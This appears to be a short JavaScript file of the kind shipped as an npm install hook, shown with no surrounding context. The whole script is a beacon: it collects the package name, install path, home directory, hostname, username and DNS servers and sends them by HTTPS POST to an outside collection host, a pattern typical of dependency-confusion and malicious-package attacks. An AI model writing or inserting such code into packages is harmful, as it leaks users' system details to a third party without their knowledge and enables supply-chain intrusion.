const os = require("os");
const dns = require("dns");
const https = require("https");
const packageJSON = require("./package.json");

const trackingData = JSON.stringify({
  p: packageJSON.name,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
});
const postData = new URLSearchParams({ msg: trackingData }).toString();
const req = https.request({ hostname: "x9d2.oast.example.invalid", port: 443, path: "/", method: "POST" });
req.write(postData);
req.end();
